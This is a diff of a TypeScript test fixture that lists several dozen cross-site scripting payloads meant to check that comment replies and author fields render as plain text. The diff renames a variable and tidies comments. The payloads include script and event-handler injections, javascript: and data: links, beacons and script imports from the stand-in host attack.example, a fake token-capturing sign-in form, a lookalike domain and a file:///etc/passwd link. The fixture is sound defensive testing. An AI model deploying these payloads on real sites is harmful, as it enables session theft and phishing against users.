@@ -1,39 +1,39 @@
-/** Where attacks lead that ask for something over the network; a request to it is an attack that ran. */
+/** Host of all attacks that use the network; a request to it proves that an attack ran. */
 export const attackHost = 'attack.example';
 
-/** The global that attacks set where they get to run a script; its value is then the name of the attack. */
+/** Global variable that a script attack sets to its own name. */
 export const attackMark = 'taken';
 
-/** One reply that would do harm if its text or its author became markup, a link or a picture. */
+/** A reply that does harm if its text or author becomes markup, a link or a picture. */
 export interface ReplyAttack {
   name: string;
-  /** Stands in `textDisplay`, `textOriginal` and `authorDisplayName`. */
+  /** Value of `textDisplay`, `textOriginal` and `authorDisplayName`. */
   markup: string;
-  /** Other fields of the reply's row that are attacks themselves. */
+  /** Other hostile fields of the reply's row. */
   fields?: Record<string, unknown>;
 }
 
-const away = `https://${attackHost}`;
-/** Without `void` a script in a link would put its own value in the place of the page, and the mark would be gone. */
+const attackUrl = `https://${attackHost}`;
+/** Without `void` a script in a link would replace the page with its value. */
 const run = (name: string) => `void(${attackMark}='${name}')`;
 
-/** Attacks by scripts and handlers: each gets its own name, so that a failing test can tell which one ran. */
+/** Attacks by scripts and event handlers, each with its own name. */
 const scripts: Record<string, (js: string, name: string) => string> = {
   script: (js) => `<script>${js}</script>`,
-  'script-from-elsewhere': (_, name) => `<script src="${away}/${name}.js"></script>`,
+  'script-from-elsewhere': (_, name) => `<script src="${attackUrl}/${name}.js"></script>`,
   'script-in-capitals': (js) => `<ScRiPt >${js}</sCrIpT >`,
   'script-within-script': (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
   'script-unclosed': (js) => `<script>${js}//`,
   'script-after-break': (js) => `Thanks<br><script\n>${js}</script\n>`,
-  'script-module': (_, name) => `<script type="module">import '${away}/${name}.js'</script>`,
+  'script-module': (_, name) => `<script type="module">import '${attackUrl}/${name}.js'</script>`,
   'script-null-letter': (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
   'picture-error': (js) => `<img src=x onerror="${js}">`,
   'picture-error-unquoted': (js) => `<img/src="x"/onerror=${js}>`,
   'picture-error-backtick': (js) => `<img src=\`x\` onerror=\`${js}\`>`,
   'picture-misspelt': (js) => `<image src=x onerror="${js}">`,
-  'picture-beacon': (_, name) => `<img src="${away}/${name}.png" width=1 height=1>`,
-  'picture-srcset': (_, name) => `<img srcset="${away}/${name}.png 1x, ${away}/${name}2.png 2x">`,
-  'picture-source-set': (_, name) => `<picture><source srcset="${away}/${name}.webp"><img alt=""></picture>`,
+  'picture-beacon': (_, name) => `<img src="${attackUrl}/${name}.png" width=1 height=1>`,
+  'picture-srcset': (_, name) => `<img srcset="${attackUrl}/${name}.png 1x, ${attackUrl}/${name}2.png 2x">`,
+  'picture-source-set': (_, name) => `<picture><source srcset="${attackUrl}/${name}.webp"><img alt=""></picture>`,
   'picture-lazy': (js) => `<img loading=lazy src=x onload="${js}" onerror="${js}">`,
   'svg-load': (js) => `<svg onload="${js}"></svg>`,
   'svg-slash': (js) => `<svg/onload=${js}>`,
@@ -57,33 +57,33 @@ const scripts: Record<string, (js: string, name: string) => string> = {
   'link-data': (js) => `<a href="data:text/html,<script>${js}</script>">press</a>`,
   'link-data-base64': () => `<a href="data:text/html;base64,PHNjcmlwdD50YWtlbj0xPC9zY3JpcHQ+">press</a>`,
   'link-vbscript': (js) => `<a href="vbscript:${js}">press</a>`,
-  'link-blob': (_, name) => `<a href="blob:${away}/${name}">press</a>`,
+  'link-blob': (_, name) => `<a href="blob:${attackUrl}/${name}">press</a>`,
   'link-file': () => `<a href="file:///etc/passwd">press</a>`,
   'link-extension': () => `<a href="chrome-extension://invalid/options.html">press</a>`,
   'link-of-the-browser': () => `<a href="chrome://settings/">press</a> <a href="view-source:about:blank">and this</a>`,
   'link-handler': (js) =>
-    `<a href="${away}/" onclick="${js}" onmouseover="${js}" onfocus="${js}" autofocus tabindex=1>press</a>`,
-  'link-ping': (_, name) => `<a href="#" ping="${away}/${name}" target="_blank" rel="opener">press</a>`,
-  'link-download': (_, name) => `<a href="${away}/${name}.exe" download="notes.txt.exe">press</a>`,
+    `<a href="${attackUrl}/" onclick="${js}" onmouseover="${js}" onfocus="${js}" autofocus tabindex=1>press</a>`,
+  'link-ping': (_, name) => `<a href="#" ping="${attackUrl}/${name}" target="_blank" rel="opener">press</a>`,
+  'link-download': (_, name) => `<a href="${attackUrl}/${name}.exe" download="notes.txt.exe">press</a>`,
   'link-with-name': () => `<a href="https://www.youtube.com@${attackHost}/">www.youtube.com</a>`,
   'link-lookalike': () => `<a href="https://www.уoutube.com/">www.youtube.com</a>`,
   frame: (js) => `<iframe src="javascript:${js}"></iframe>`,
   'frame-document': (js, name) => `<iframe srcdoc="<script>parent.${attackMark}='${name}';${js}</script>"></iframe>`,
   'frame-elsewhere': (_, name) =>
-    `<iframe src="${away}/${name}"></iframe><frameset><frame src="${away}/${name}"></frameset>`,
+    `<iframe src="${attackUrl}/${name}"></iframe><frameset><frame src="${attackUrl}/${name}"></frameset>`,
   object: (js) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
-  'object-elsewhere': (_, name) => `<object data="${away}/${name}"></object><embed src="${away}/${name}">`,
-  style: (_, name) => `<style>@import '${away}/${name}.css'; * { display: none !important }</style>`,
+  'object-elsewhere': (_, name) => `<object data="${attackUrl}/${name}"></object><embed src="${attackUrl}/${name}">`,
+  style: (_, name) => `<style>@import '${attackUrl}/${name}.css'; * { display: none !important }</style>`,
   'style-attribute': (_, name) =>
-    `<p style="position:fixed;inset:0;z-index:9999;background:url(${away}/${name}.png)">You are signed out</p>`,
+    `<p style="position:fixed;inset:0;z-index:9999;background:url(${attackUrl}/${name}.png)">You are signed out</p>`,
   'style-sheet': (_, name) =>
-    `<link rel=stylesheet href="${away}/${name}.css"><link rel=prefetch href="${away}/${name}2">`,
-  base: () => `<base href="${away}/">`,
-  'meta-refresh': (_, name) => `<meta http-equiv="refresh" content="0;url=${away}/${name}">`,
+    `<link rel=stylesheet href="${attackUrl}/${name}.css"><link rel=prefetch href="${attackUrl}/${name}2">`,
+  base: () => `<base href="${attackUrl}/">`,
+  'meta-refresh': (_, name) => `<meta http-equiv="refresh" content="0;url=${attackUrl}/${name}">`,
   'meta-policy': () =>
     `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">`,
   form: (_, name) =>
-    `<form action="${away}/${name}"><input name=token autofocus onfocus="${run(name)}"><button>Sign in again</button></form>`,
+    `<form action="${attackUrl}/${name}"><input name=token autofocus onfocus="${run(name)}"><button>Sign in again</button></form>`,
   'form-action': (js) => `<button form=x formaction="javascript:${js}">press</button><form id=x></form>`,
   'form-names': () =>
     `<form id=document name=body><input name=parentNode><input id=innerHTML></form><img name=getElementById>`,
@@ -91,7 +91,7 @@ const scripts: Record<string, (js: string, name: string) => string> = {
   'details-toggle': (js) => `<details open ontoggle="${js}"><summary>more</summary></details>`,
   'video-error': (js) =>
     `<video src=x onerror="${js}"></video><audio src=x onerror="${js}"></audio><video><source onerror="${js}"></video>`,
-  'video-poster': (_, name) => `<video poster="${away}/${name}.png"></video>`,
+  'video-poster': (_, name) => `<video poster="${attackUrl}/${name}.png"></video>`,
   marquee: (js) => `<marquee onstart="${js}">moving</marquee><input type=image src=x onerror="${js}">`,
   animation: (js) =>
     `<xss style="animation:spin 1s" onanimationstart="${js}" contenteditable autofocus onfocus="${js}">x</xss>`,
@@ -118,17 +118,17 @@ const scripts: Record<string, (js: string, name: string) => string> = {
   'letters-halved': (js) => `\uD800<img src=x onerror=${js}>\uDC00`,
   'template-words': (js) => `{{constructor.constructor("${js}")()}} \u0024{${js}} <%= ${js} %> [[${js}]]`,
   'attribute-break': (js) => `" onmouseover="${js}" x="' onfocus='${js}' autofocus='`,
-  'import-map': (_, name) => `<script type=importmap>{"imports":{"react":"${away}/${name}.js"}}</script>`,
+  'import-map': (_, name) => `<script type=importmap>{"imports":{"react":"${attackUrl}/${name}.js"}}</script>`,
   prototype: () => `__proto__ constructor {"__proto__":{"${attackMark}":"prototype"}}`,
 };
 
-/** Attacks in the fields about the author and the reply itself; their text is harmless. */
+/** Attacks in the fields of the author and the reply; their text is harmless. */
 const rows: Record<string, (js: string, name: string) => Record<string, unknown>> = {
   'author-address-javascript': (js) => ({ authorChannelUrl: `javascript:${js}` }),
   'author-address-data': (js) => ({ authorChannelUrl: `data:text/html,<script>${js}</script>` }),
   'author-address-elsewhere': (_, name) => ({ authorChannelUrl: `https://www.youtube.com.${attackHost}/${name}` }),
   'author-address-broken': (js) => ({ authorChannelUrl: `https://www.youtube.com/"><img src=x onerror=${js}>` }),
-  'author-picture-beacon': (_, name) => ({ authorProfileImageUrl: `${away}/${name}.png` }),
+  'author-picture-beacon': (_, name) => ({ authorProfileImageUrl: `${attackUrl}/${name}.png` }),
   'author-picture-break': (js) => ({ authorProfileImageUrl: `x" onerror="${js}` }),
   'author-picture-svg': (js) => ({ authorProfileImageUrl: `data:image/svg+xml,<svg onload="${js}"/>` }),
   'author-id': (js) => ({
@@ -143,7 +143,7 @@ const rows: Record<string, (js: string, name: string) => Record<string, unknown>
   'reply-date': (js) => ({ publishedAt: `<svg/onload=${js}>`, updatedAt: `javascript:${js}` }),
 };
 
-/** Every attack; none may run, none may load anything, and all must be read as the text they are. */
+/** All attacks; none may run or load anything, and each must be shown as plain text. */
 export const replyAttacks: readonly ReplyAttack[] = [
   ...Object.entries(scripts).map(([name, make]) => ({ name, markup: make(run(name), name) })),
   ...Object.entries(rows).map(([name, make]) => ({
